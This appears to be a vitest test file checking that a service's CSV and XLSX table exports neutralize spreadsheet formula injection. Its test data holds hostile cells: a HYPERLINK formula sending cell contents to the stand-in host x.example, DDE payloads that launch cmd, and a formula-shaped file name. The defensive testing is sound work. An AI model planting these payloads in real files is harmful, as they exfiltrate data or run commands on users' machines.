import ExcelJS from "exceljs";
import { PDFDocument, StandardFonts } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { neutralizeFormula } from "../../src/core/exports/csv.ts";
import { uploadAndWait } from "../support/documents.ts";
import { call } from "../support/http.ts";
import type { TestServer } from "../support/server.ts";
import { sharedTestServer } from "../support/shared-server.ts";
import { createTenant, type Tenant } from "../support/tenant.ts";

// Cells a spreadsheet would run as formulas, in a table of a PDF: exported as text.

const hostile = [
  ["Item", "Note", "Amount"],
  ["one", '=HYPERLINK("http://x.example/?q="&A1)', "-12.50"],
  ["two", "+cmd|' /C calc'!A0", "1,234.50"],
  ["three", "@SUM(A1:A9)", "+4%"],
  ["four", "-2+3+cmd|' /C calc'!A0", "7"],
];

async function formulaTablePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([612, 792]);
  page.drawText("Expenses", { x: 72, y: 720, size: 16, font });
  hostile.forEach((row, i) => {
    row.forEach((cell, j) => {
      page.drawText(cell, { x: 72 + j * 170, y: 680 - i * 18, size: 10, font });
    });
  });
  return doc.save();
}

describe("neutralizeFormula", () => {
  it("prefixes what a spreadsheet would run, and leaves numbers and text alone", () => {
    for (const f of ["=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=HYPERLINK()"])
      expect(neutralizeFormula(f)).toBe(`'${f}`);
    for (const v of ["-12.50", "+4%", "1,234.50", "-1,000", "plain", "", "a=b", "12"])
      expect(neutralizeFormula(v)).toBe(v);
  });
});

describe("exports of tables holding formulas", () => {
  let server: TestServer;
  let t: Tenant;
  let id: string;
  beforeAll(async () => {
    server = await sharedTestServer();
    t = await createTenant(server.url);
    const done = await uploadAndWait(server.url, t.secret, await formulaTablePdf(), "=HYPERLINK(1).pdf");
    expect(done.phase).toBe("complete");
    id = done.id;
    const c = await call(server.url, "POST", "/v1/collections", {
      key: t.secret,
      json: { name: "formulas", document_ids: [id] },
    });
    expect(c.status, c.text).toBe(201);
  });
  afterAll(async () => {
    await server?.close();
  });

  it("table CSV: formula cells start with an apostrophe; numbers stay numbers", async () => {
    const r = await fetch(`${server.url}/v1/documents/${id}/entities/tables/0?format=csv`, {
      headers: { authorization: `Bearer ${t.secret}` },
    });
    expect(r.status).toBe(200);
    const csv = await r.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?q=""&A1)"`);
    expect(csv).toContain("'+cmd|' /C calc'!A0");
    expect(csv).toContain("'@SUM(A1:A9)");
    expect(csv).toContain("'-2+3+cmd|' /C calc'!A0");
    expect(csv).toContain(",-12.50\r\n");
    expect(csv).toContain(',"1,234.50"\r\n');
    expect(csv).toContain(",+4%\r\n");
    expect(csv).not.toMatch(/(^|,)(=|@|\+\D)/m);
  });

  it("collection CSV: cells and file names alike", async () => {
    const r = await fetch(`${server.url}/v1/collections/formulas/tables.csv`, {
      headers: { authorization: `Bearer ${t.secret}` },
    });
    expect(r.status).toBe(200);
    const csv = await r.text();
    expect(csv).toContain(",'=HYPERLINK(1).pdf,");
    expect(csv).toContain("'@SUM(A1:A9)");
    expect(csv).not.toMatch(/(^|,)(=|@|\+\D)/m);
  });

  it("collection XLSX: formula-looking cells are stored as text, never as formulas", async () => {
    const r = await fetch(`${server.url}/v1/collections/formulas/tables.xlsx`, {
      headers: { authorization: `Bearer ${t.secret}` },
    });
    expect(r.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(await r.arrayBuffer()) as never);
    const sheet = book.getWorksheet("Tables");
    const cells: ExcelJS.Cell[] = [];
    sheet?.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
    const formulaish = cells.filter((c) => typeof c.value === "string" && /^[=+@]/.test(c.value));
    expect(formulaish.length).toBeGreaterThanOrEqual(4);
    for (const c of formulaish) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Formula)).toBe(false);
  });
});
